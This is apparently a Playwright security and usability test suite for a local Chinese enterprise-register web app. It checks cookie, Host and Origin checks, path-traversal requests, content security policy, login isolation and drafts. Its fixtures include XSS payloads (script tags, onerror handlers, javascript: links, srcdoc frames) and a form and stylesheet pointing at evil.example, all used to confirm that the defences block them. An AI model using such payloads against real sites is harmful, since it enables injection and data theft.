import { request as ask } from 'node:http'
import { expect as check } from '@playwright/test'
import type { Page } from '@playwright/test'
import { DEMO_PASSWORD as PASSWORD } from '#tools/demo/unit.ts'
import { expect, listen, test } from './helper/desk.ts'
import { composeAndEnter } from './helper/ime.ts'
import type { Served } from './helper/serve.ts'
import { expectTitle, goTo, login, visit } from './page/door.ts'
import { named } from './page/form.ts'

type Made = { readonly county: string }
type Answer = { readonly status: number; readonly headers: Readonly<Record<string, unknown>>; readonly body: string }
type Knock = {
  readonly method?: string
  readonly path: string
  readonly headers?: Readonly<Record<string, string>>
  readonly body?: string
}

/** A request as a stranger would write it: nothing is tidied on the way, neither path nor Host. */
function knock(served: Served, { method = 'GET', path, headers = {}, body }: Knock): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const request = ask({ host: '127.0.0.1', port: served.port, method, path, headers }, (response) => {
      let text = ''
      response.setEncoding('utf8')
      response.on('data', (part: string) => (text += part))
      response.on('end', () => resolve({ status: response.statusCode ?? 0, headers: response.headers, body: text }))
    })
    request.on('error', reject)
    request.end(body)
  })
}

async function cookieOf(served: Served): Promise<string> {
  const { pathname, search } = new URL(await served.link())
  const { headers } = await knock(served, { path: pathname + search })
  return String(headers['set-cookie']).split(';')[0] ?? ''
}

test('the loopback door refuses everybody who did not come by the link', async ({ office }) => {
  const served = await office.serve(`${office.root}/data`)
  const link = new URL(await served.link())
  const redeemed = await knock(served, { path: link.pathname + link.search })
  check(redeemed.status).toBe(303)
  check(String(redeemed.headers['set-cookie'])).toMatch(/HttpOnly; SameSite=Strict; Path=\//u)
  const cookie = String(redeemed.headers['set-cookie']).split(';')[0] ?? ''
  const origin = served.origin
  const json = { 'content-type': 'application/json' }
  const state = { method: 'POST', path: '/api/session.state', body: '{"input":{}}' }
  const status = async (one: Knock) => (await knock(served, one)).status

  check(await status({ path: link.pathname + link.search }), 'a used link').toBe(401)
  check(await status({ path: '/?t=wrong' }), 'an invented link').toBe(401)
  check(await status({ path: '/' }), 'no cookie').toBe(401)
  check(await status({ path: '/', headers: { cookie: `${cookie}x` } }), 'a wrong cookie').toBe(401)
  check(await status({ ...state, headers: { ...json, origin } }), 'a call without cookie').toBe(401)
  check(await status({ path: '/', headers: { cookie, host: 'evil.example' } }), 'another Host').toBe(421)
  check(await status({ path: '/', headers: { cookie, host: `127.0.0.1:${served.port + 1}` } }), 'another port').toBe(
    421,
  )
  check(await status({ ...state, headers: { ...json, cookie, origin: 'http://evil.example' } }), 'another Origin').toBe(
    403,
  )
  check(await status({ ...state, headers: { ...json, cookie, origin: 'null' } }), 'a sandboxed Origin').toBe(403)
  check(await status({ ...state, headers: { ...json, cookie } }), 'a POST without Origin').toBe(403)
  check(await status({ path: '/api/session.state', headers: { cookie } }), 'GET of a route').toBe(405)
  check(await status({ ...state, method: 'PUT', headers: { ...json, cookie, origin } }), 'another method').toBe(405)
  const form = { 'content-type': 'application/x-www-form-urlencoded', cookie, origin }
  check(await status({ ...state, headers: form }), 'a form’s content type').toBe(415)
  check(await status({ ...state, body: '{', headers: { ...json, cookie, origin } }), 'no JSON').toBe(400)
  for (const path of [
    '/../main/serve.mjs',
    '/%2e%2e/main/serve.mjs',
    '/..%2fmain%2fserve.mjs',
    '/%5c..%5cx.html',
    '/%',
  ])
    check(await status({ path, headers: { cookie } }), path).toBe(404)

  const good = await knock(served, { ...state, headers: { ...json, cookie, origin } })
  check(good.status, 'the honest call').toBe(200)
  check(good.body).toContain('"state":"new"')
  const page = await knock(served, { path: '/', headers: { cookie } })
  const policy = String(page.headers['content-security-policy'])
  check(policy).toContain("default-src 'none'")
  check(policy).toContain("script-src 'self';")
  check(policy).toContain("frame-ancestors 'none'")
  check(policy).not.toContain('unsafe')
  const [, nonce = ''] = /'nonce-([^']+)'/u.exec(policy) ?? []
  check(nonce.length).toBeGreaterThan(20)
  check(page.body, 'the page bears the nonce of its answer').toContain(nonce)
  const again = await knock(served, { path: '/', headers: { cookie } })
  check(String(again.headers['content-security-policy']), 'a nonce is used once').not.toContain(nonce)
  check(page.headers['x-content-type-options']).toBe('nosniff')
  check(page.headers['cache-control']).toBe('no-store')
})

test('no call is answered to a connection that did not log in, and none knows another’s login', async ({ office }) => {
  const { county } = (await office.make('money')) as Made
  const served = await office.serve(county)
  const [one, other] = [await cookieOf(served), await cookieOf(served)]
  const call = async (cookie: string, route: string, input: unknown) => {
    const headers = { 'content-type': 'application/json', cookie, origin: served.origin }
    const { body } = await knock(served, {
      method: 'POST',
      path: `/api/${route}`,
      headers,
      body: JSON.stringify({ input }),
    })
    return body
  }
  const list = { record: 'enterprise' }
  check(await call(one, 'register.find', list)).toContain('NOT_LOGGED_IN')
  check(await call(one, 'session.login', { userName: '经办', password: PASSWORD })).toContain('"ok":true')
  check(await call(one, 'register.find', list)).toContain('"ok":true')
  check(await call(other, 'register.find', list)).toContain('NOT_LOGGED_IN')
  check(await call(one, 'user.find', {}), 'a clerk does not manage users').toContain('NOT_ALLOWED')
  check(await call(one, '__proto__', {})).toContain('UNKNOWN_ROUTE')
})

async function opened(
  page: Page,
  office: { make: (plan: 'money') => Promise<unknown>; serve: (dir: string) => Promise<Served> },
) {
  const { county } = (await office.make('money')) as Made
  const served = await office.serve(county)
  await visit(page, served)
  return served
}

/** What words that became markup would try: each sets `harm`, or asks a foreign host. */
const MARKUP = `
  <script>window.harm = 'inline'</script>
  <script src="data:text/javascript,window.harm='data'"></script>
  <img src="data:," onerror="window.harm='handler'">
  <a id="link" href="javascript:void(window.harm='link')">x</a>
  <iframe srcdoc="<script>parent.harm='frame'</script>"></iframe>
  <object data="data:text/html,<script>parent.harm='object'</script>"></object>
  <link rel="stylesheet" href="https://evil.example/x.css">
  <form id="form" action="https://evil.example/take"><input name="words" value="1"></form>`

test('markup that got into the page runs nothing, asks nobody and is told by the browser (S-07)', async ({
  page,
  office,
}) => {
  const served = await opened(page, office)
  // In a window of its own: what the browser complains of is what is looked for there.
  const window = await page.context().newPage()
  await visit(window, served)
  const complaints = listen(window)
  const asked: string[] = []
  await window.route(/evil\.example/u, (route) => {
    asked.push(route.request().url())
    return route.abort()
  })
  await window.evaluate((markup) => {
    const seen: string[] = []
    Object.assign(globalThis, { seen })
    document.addEventListener('securitypolicyviolation', (one) => seen.push(one.effectiveDirective))
    // A fragment made by a range runs its scripts, as text set into an element does not.
    document.body.append(document.createRange().createContextualFragment(markup))
    document.querySelector<HTMLElement>('#link')?.click()
    document.querySelector<HTMLFormElement>('#form')?.submit()
  }, MARKUP)
  // Later, when what is typed here no longer counts as the debugger's own words.
  await window.evaluate(`setTimeout(() => setTimeout('globalThis.harm = "made from text"'))`)
  const seen = () => window.evaluate('[...new Set(seen)].toSorted()')
  await expect
    .poll(seen)
    .toEqual(['form-action', 'object-src', 'script-src', 'script-src-attr', 'script-src-elem', 'style-src-elem'])
  check(await window.evaluate('globalThis.harm'), 'nothing ran').toBeUndefined()
  check(asked, 'nobody was asked').toEqual([])
  check(complaints.length).toBeGreaterThan(4)
  await window.close()
})

test('a wrong password is told in Chinese with what to do; the right one then opens', async ({ page, office }) => {
  await opened(page, office)
  await page.getByRole('combobox', { name: '用户' }).click()
  await page.getByRole('option', { name: '经办', exact: true }).click()
  await page.getByLabel('口令', { exact: true }).fill('不是这个口令1A')
  await page.keyboard.press('Enter')
  const alert = page.getByRole('alert')
  await expect(alert).toContainText('口令')
  await expect(alert).toContainText('怎么办：')
  await expect(alert).toContainText('WRONG_PASSWORD')
  await expect(page.getByLabel('口令', { exact: true })).toHaveValue('')
  await login(page, '经办', PASSWORD)
})

test('locking and a session taken by another window keep what was typed; a reload offers each draft', async ({
  page,
  office,
}) => {
  await page.clock.install()
  const served = await opened(page, office)
  await login(page, '经办', PASSWORD)
  await goTo(page, '企业名录')
  await page.keyboard.press('Control+n')
  const name = page.getByLabel('企业名称')
  await expect(name).toBeFocused()
  await page.keyboard.insertText('通城县草稿商贸有限公司')

  await page.keyboard.press('Control+l')
  await expect(page.getByText('已锁屏')).toBeVisible()
  await expect(name, 'nothing of the desk can be reached while it is locked').toBeHidden()
  await login(page, '经办', PASSWORD)
  await expect(name).toHaveValue('通城县草稿商贸有限公司')

  await page.clock.fastForward('31:00')
  await expect(page.getByText('已锁屏')).toBeVisible()
  await login(page, '经办', PASSWORD)
  await expect(name).toHaveValue('通城县草稿商贸有限公司')

  // A second link of the same browser takes the session away from the first window.
  const second = await page.context().newPage()
  await visit(second, served)
  await expect(second.getByLabel('口令', { exact: true })).toBeVisible()
  await second.close()
  await name.fill('通城县草稿一商贸有限公司')
  await expect(page.getByText('登录已失效')).toBeVisible()
  await login(page, '经办', PASSWORD)
  await expect(name).toHaveValue('通城县草稿一商贸有限公司')
  await name.press('Control+ArrowRight')

  await page.reload()
  await expectTitle(page, '新增企业')
  await expect(name).toHaveValue('')
  await expect(page.getByText('没有保存的草稿：通城县草稿一商贸有限公司')).toBeVisible()
  await name.fill('通城县草稿二商贸有限公司')
  await goTo(page, '企业名录')
  await expect(page.getByText('没有保存的草稿 2 份')).toBeVisible()
  await page.getByRole('link', { name: /^通城县草稿一商贸有限公司/u }).click()
  await expectTitle(page, '新增企业')
  await page.getByRole('alert').filter({ hasText: '草稿一' }).getByRole('button', { name: '接着填' }).click()
  await expect(name).toHaveValue('通城县草稿一商贸有限公司')
})

test('no key acts while an input method composes: login, search, form, dialog', async ({ page, office }) => {
  await opened(page, office)
  const calls: string[] = []
  page.on('request', (request) => {
    const path = new URL(request.url()).pathname
    if (path.startsWith('/api/')) calls.push(path.slice(5))
  })

  await test.step('the list of users takes no one and the door does not open', async () => {
    const user = page.getByRole('combobox', { name: '用户' })
    await user.click()
    await composeAndEnter(page, 'jing')
    await expect(user).toHaveAttribute('aria-expanded', 'true')
    await page.keyboard.insertText('经办')
    await page.keyboard.press('Enter')
    const password = page.getByLabel('口令', { exact: true })
    await password.fill(PASSWORD)
    await composeAndEnter(page, 'x')
    check(calls).not.toContain('session.login')
    await page.keyboard.insertText('x')
    await password.fill(PASSWORD)
    await page.keyboard.press('Enter')
    await expectTitle(page, '今日事项')
    check(calls, 'the same key outside a composition logs in').toContain('session.login')
  })

  await test.step('a search neither opens a row nor searches for half a syllable', async () => {
    await goTo(page, '企业名录')
    const box = page.getByRole('searchbox', { name: '查找企业' })
    await box.click()
    await composeAndEnter(page, 'cha')
    await expectTitle(page, '企业名录')
    await page.keyboard.insertText('油茶')
    await expect(page.getByText('共 1 条')).toBeVisible()
  })

  await test.step('a name being composed is neither left nor saved', async () => {
    await page.keyboard.press('Control+n')
    const name = page.getByRole('textbox', { name: named('企业名称') })
    await expect(name).toBeFocused()
    calls.length = 0
    await composeAndEnter(page, 'shangmao')
    await expect(name).toBeFocused()
    await expectTitle(page, '新增企业')
    await page.keyboard.insertText('通城县商贸公司')
    await expect(name).toHaveValue('通城县商贸公司')
    await page.keyboard.press('Enter')
    await expect(page.getByRole('combobox', { name: named('证照类型') })).toBeFocused()
    await composeAndEnter(page, 'tong')
    await expect(page.getByRole('combobox', { name: named('证照类型') })).toBeFocused()
    check(calls).not.toContain('register.record')
  })
})
